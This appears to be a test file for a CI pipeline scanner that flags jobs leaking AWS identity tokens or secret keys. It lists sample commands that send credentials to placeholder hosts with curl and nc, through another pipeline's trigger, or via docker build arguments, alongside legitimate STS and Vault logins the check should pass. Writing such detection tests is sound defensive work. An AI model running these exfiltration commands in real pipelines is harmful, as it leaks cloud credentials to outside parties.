import { describePipelineCheck, tokenJob } from '@/tests/support/check-cases';

describePipelineCheck('token-passed-on', {
  finds: {
    'another host': [tokenJob('curl -d "t=$AWS_STS_ID_TOKEN" https://collect.example.net/'), ['8 high']],
    'a host that a variable names': [
      tokenJob('curl --data "$AWS_STS_ID_TOKEN" "$BROKER_URL/token"'),
      ['8 high?'],
    ],
    'what is piped': [tokenJob('echo $AWS_STS_ID_TOKEN | nc example.net 99'), ['8 high']],
    'another pipeline': [
      tokenJob(
        'curl -F "variables[T]=$AWS_STS_ID_TOKEN" https://gitlab.com/api/v4/projects/1/trigger/pipeline',
      ),
      ['8 high'],
    ],
    'a build argument': [tokenJob('docker build --build-arg "TOKEN=$AWS_STS_ID_TOKEN" .'), ['8 high']],
    'credentials in a build argument': [
      tokenJob('docker build --build-arg "K=$AWS_SECRET_ACCESS_KEY" .'),
      ['8 high'],
    ],
  },
  passes: {
    STS: tokenJob('curl --data "WebIdentityToken=$AWS_STS_ID_TOKEN" https://sts.eu-west-1.amazonaws.com/'),
    'another token': tokenJob('curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://gitlab.com/api/v4/x'),
    'a token for somebody else': `read:\n  id_tokens:\n    VAULT_ID_TOKEN:\n      aud: https://vault.example.com\n  script:\n    - curl -d "jwt=$VAULT_ID_TOKEN" https://vault.example.com/v1/auth/jwt/login\n`,
  },
});
